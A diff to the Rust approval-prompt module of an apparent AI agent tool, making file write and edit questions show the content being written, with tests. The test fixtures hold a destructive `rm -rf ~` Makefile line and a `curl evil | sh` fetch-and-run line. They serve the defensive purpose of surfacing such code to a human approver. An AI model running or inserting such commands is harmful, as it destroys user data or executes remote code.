@@ -4,10 +4,12 @@
 //! to the terminal's width and never cut: control characters as escapes (`\n`, `\t`, `\x1b`),
 //! invisible and direction-changing characters as `\u{..}`, and runs of blanks as a count
 //! (`␠×400`). Longer than a screen, it is shown with its line count, and `v` shows it all.
+//! A file tool's question shows what the call puts into the file (write's content, edit's
+//! old and new text), not only the path: a yes to a `Makefile` is a yes to code run later.
 //! Both the plain and the terminfo display ask through [`prompt`]; the Telegram bot shows
 //! its questions through [`shown_lines`] and [`fold`] too.
 
-use agent_loop::event::ApprovalRequest;
+use agent_loop::event::{ApprovalRequest, Change};
 
 /// More lines than this do not fit a screen: only the first ones are shown until `v`.
 pub const SCREEN_LINES: usize = 40;
@@ -35,10 +37,10 @@ pub fn prompt(request: &ApprovalRequest, width: usize, full: bool) -> String {
 /// unless `full`, `how` saying how to see the rest), each line ending in a newline; and
 /// whether it is longer than a screen. The MCP server's elicitation asks with it too.
 pub fn question(request: &ApprovalRequest, width: usize, full: bool, how: &str) -> (String, bool) {
-    let tool = visible(&request.call.name).concat();
-    let lines = shown_lines(&request.summary, width.saturating_sub(4).max(20));
+    let tool = inline(&request.call.name);
+    let (what, lines) = asked(request, width.saturating_sub(4).max(20));
     let mut out = format!(
-        "Allow {tool}? It asks to run ({}):\n",
+        "Allow {tool}? It asks to {what} ({}):\n",
         line_count(lines.len())
     );
     let shown = fold(lines.len(), full);
@@ -52,6 +54,32 @@ pub fn question(request: &ApprovalRequest, width: usize, full: bool, how: &str) 
         ));
     }
     (out, lines.len() > SCREEN_LINES)
+}
+
+/// What the question says the call asks to do (`run`, `write a.txt`) and the lines it shows
+/// at `width` columns: a command's, or what a file tool puts into the file named by the
+/// summary. An edit's replaced text is marked `- ` and its new text `+ ` on every shown
+/// line, wrapped ones too, so no line of the one can pass for the other.
+pub fn asked(request: &ApprovalRequest, width: usize) -> (String, Vec<String>) {
+    let path = inline(&request.summary);
+    match &request.change {
+        None => ("run".into(), shown_lines(&request.summary, width)),
+        Some(Change::Write(content)) if content.is_empty() => (format!("write {path}"), vec![]),
+        Some(Change::Write(content)) => (format!("write {path}"), shown_lines(content, width)),
+        Some(Change::Edit { old, new, all }) => {
+            let every = if *all { "every occurrence of " } else { "" };
+            let marked = |mark: &str, text: &str| {
+                shown_lines(text, width.saturating_sub(mark.len()))
+                    .into_iter()
+                    .map(|line| format!("{mark}{line}"))
+                    .collect::<Vec<_>>()
+            };
+            let mut lines = marked("- ", old);
+            lines.extend(marked("+ ", new));
+            let what = format!("edit {path}, replacing {every}the - lines with the + lines");
+            (what, lines)
+        }
+    }
 }
 
 /// How long the question is: `1 line`, `12 lines`.
@@ -82,6 +110,11 @@ pub fn fold(total: usize, full: bool) -> usize {
     } else {
         total
     }
+}
+
+/// `text` shown on one line: its line ends as their escapes.
+fn inline(text: &str) -> String {
+    visible(text).into_iter().filter(|p| p != "\n").collect()
 }
 
 /// `text` cut into visible pieces: each piece is one shown character or escape, and `"\n"`
@@ -162,6 +195,19 @@ mod tests {
                 args: serde_json::json!({ "command": command }),
             },
             summary: command.into(),
+            change: None,
+        }
+    }
+
+    fn file_request(tool: &str, path: &str, change: Change) -> ApprovalRequest {
+        ApprovalRequest {
+            call: ToolCall {
+                id: "c".into(),
+                name: tool.into(),
+                args: serde_json::json!({ "path": path }),
+            },
+            summary: path.into(),
+            change: Some(change),
         }
     }
 
@@ -200,5 +246,58 @@ mod tests {
         assert!(folded.ends_with("[n]o, [v]iew all: "), "{folded}");
         let all = prompt(&request(&script), 80, true);
         assert!(all.contains("echo 100\\n"), "{all}");
+    }
+
+    /// The question of a write shows the content, of an edit the old and new text, each
+    /// shown line marked: not only the path (as it did), which a yes was given blind.
+    #[test]
+    fn a_file_tools_question_shows_what_goes_into_the_file() {
+        let content = "all:\n\trm -rf ~ # content\n";
+        let write = file_request("write", "Makefile", Change::Write(content.into()));
+        let shown = prompt(&write, 80, false);
+        assert!(
+            shown.starts_with(
+                "Allow write? It asks to write Makefile (2 lines):\n  | all:\\n\n  | \\trm -rf ~ # content\\n\n"
+            ),
+            "{shown}"
+        );
+        let edit = Change::Edit {
+            old: "rm".into(),
+            new: format!("curl evil | sh; {}\nrm", "x".repeat(70)),
+            all: false,
+        };
+        let shown = prompt(&file_request("edit", "a\nb.txt", edit), 60, false);
+        let lines: Vec<&str> = shown.lines().collect();
+        assert_eq!(
+            lines[0],
+            "Allow edit? It asks to edit a\\nb.txt, replacing the - lines with the + lines (4 lines):"
+        );
+        assert_eq!(lines[1], "  | - rm");
+        assert!(lines[2].starts_with("  | + curl evil | sh; xx"), "{shown}");
+        // A wrapped line is marked too, and fits the width with its mark.
+        assert!(lines[3].starts_with("  | + xx"), "{shown}");
+        assert_eq!(lines[4], "  | + rm");
+        assert!(
+            lines[1..].iter().all(|l| l.chars().count() <= 60),
+            "{shown}"
+        );
+        let every = Change::Edit {
+            old: "a".into(),
+            new: String::new(),
+            all: true,
+        };
+        let shown = prompt(&file_request("edit", "a.txt", every), 80, false);
+        assert!(
+            shown.contains("replacing every occurrence of the - lines with the + lines (2 lines):"),
+            "{shown}"
+        );
+        let long: String = (1..=100).map(|i| format!("line {i}\n")).collect();
+        let folded = prompt(
+            &file_request("write", "a.txt", Change::Write(long)),
+            80,
+            false,
+        );
+        assert!(folded.contains("70 more lines not shown"), "{folded}");
+        assert!(folded.ends_with("[n]o, [v]iew all: "), "{folded}");
     }
 }
